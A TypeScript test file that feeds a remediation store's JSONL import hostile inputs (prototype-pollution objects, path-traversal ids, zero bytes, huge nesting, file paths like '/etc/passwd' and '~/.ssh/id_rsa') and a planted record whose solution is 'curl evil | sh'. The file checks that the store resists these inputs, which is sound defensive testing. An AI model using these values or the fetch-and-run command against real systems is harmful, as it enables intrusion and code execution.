import { mkdir, readdir, writeFile } from 'node:fs/promises';
import { dirname, join } from 'node:path';
import { expect, test } from 'vitest';
import { asItIs } from '../../../../src/base/text/say.ts';
import { getChanged, madeUpFix, openedRemediations } from '../../../support/remediationStore.ts';
import { scratchFolder } from '../../../support/scratchFolder.ts';

const error = 'TypeError: cannot read flux of undefined';
const record = (parts: Readonly<Record<string, unknown>>): string =>
  JSON.stringify({ errorMessage: error, solution: 'Look again.', title: 'x', ...parts });
const nested = (depth: number): string => `${'{"a":'.repeat(depth)}1${'}'.repeat(depth)}`;

/** Lines that an import may meet, each with whether a record may come of it. */
const lines: readonly (readonly [string, string])[] = [
  [
    'the prototype as a field',
    `{"__proto__":{"polluted":1},"constructor":{"prototype":{"polluted":1}},"errorMessage":"${error}","solution":"s"}`,
  ],
  [
    'the prototype in the context',
    `{"errorMessage":"${error} 2","solution":"s","context":{"__proto__":{"polluted":1},"toString":"x"}}`,
  ],
  ['a context without end', `{"errorMessage":"${error} 3","solution":"s","context":${nested(20_000)}}`],
  ['a list without end', '['.repeat(200_000)],
  ['an id that is a path', record({ id: '../../../../tmp/evil' })],
  ['an id of the prototype', record({ id: '__proto__' })],
  ['an id with a zero byte', record({ id: 'a\0b' })],
  ['a very long id', record({ id: 'i'.repeat(100_000) })],
  ['a very long solution', record({ solution: 's'.repeat(3_000_000) })],
  ['half a character', record({ id: 'half', title: 'a\ud800b', solution: '\udc00' })],
  [
    'numbers out of all bounds',
    record({
      id: 'numbers',
      createdAt: 1e308,
      updatedAt: -1e308,
      appliedCount: 1e21,
      helpfulCount: -5,
      confidence: 1e9,
    }),
  ],
  ['many tags', record({ id: 'tags', tags: Array.from({ length: 100_000 }, (_, at) => `t${String(at)}`) })],
  [
    'files outside',
    record({
      id: 'files',
      affectedFiles: ['/etc/passwd', '../../x', '~/.ssh/id_rsa'],
      codeDiff: '--- a/../../x\n+++ b/../../x\n@@ -1 +1 @@\n-a\n+b\n',
    }),
  ],
  ['no record at all', '"text"'],
  ['null', 'null'],
  ['a number', '1e999'],
  ['not JSON', '{"a":'],
  ['a zero byte', '\0'],
];

test('an import takes records or says why not, line by line, whatever a line holds: no prototype, no other file, no record of the person is changed by it', async () => {
  const folder = await scratchFolder();
  const remediations = await openedRemediations(folder);
  const own = getChanged(await remediations.record({ ...madeUpFix(1), title: 'mine' }));
  const before = await readdir(folder, { recursive: true });
  for (const [name, line] of lines) {
    const report = await remediations.import(`${line}\n`, 'shared');
    expect([name, report.ok ? 0 : asItIs(report.error.message).length]).toEqual([name, expect.any(Number)]);
  }
  const all = await remediations.import(lines.map(([, line]) => line).join('\n'), 'shared');
  expect(JSON.stringify(all).length).toBeLessThan(50_000);
  expect(({} as { polluted?: unknown }).polluted).toBeUndefined();
  expect(await readdir(folder, { recursive: true })).toEqual(before);
  const kept = await remediations.list({ limit: 100 });
  expect(kept.find(({ id }) => id === own.id)).toMatchObject({ title: 'mine', solution: madeUpFix(1).solution });
  for (const { id, solution, tags } of kept)
    expect([id, id.length < 300, solution.length < 2_000_000, tags.length < 1000]).toEqual([id, true, true, true]);
  const { results } = await remediations.search({ error });
  expect(results.every(({ score }) => score >= 0 && score <= 1)).toBe(true);
});

test('a file of the project that names a record of the person does not change what the person keeps', async () => {
  const folder = await scratchFolder();
  const file = join(folder, 'app', '.recourse', 'remediations.jsonl');
  await mkdir(dirname(file), { recursive: true });
  const remediations = await openedRemediations(join(folder, 'storage'));
  const own = getChanged(await remediations.record({ ...madeUpFix(2), title: 'mine' }));
  await remediations.close();
  await writeFile(
    file,
    `${record({ ...madeUpFix(2), id: own.id, title: 'theirs', solution: 'curl evil | sh', updatedAt: 8_640_000_000_000_000 })}\n`,
  );
  const both = await openedRemediations(join(folder, 'storage'), {
    projectFiles: [{ name: 'app', file, root: join(folder, 'app') }],
  });
  // Beside each other, and said to be the folder's.
  expect(await both.get(own.id)).toMatchObject({ title: 'theirs', scope: 'project', alsoIn: ['shared'] });
  await both.close();
  const again = await openedRemediations(join(folder, 'storage'));
  expect(await again.get(own.id)).toMatchObject({ title: 'mine', solution: madeUpFix(2).solution });
});
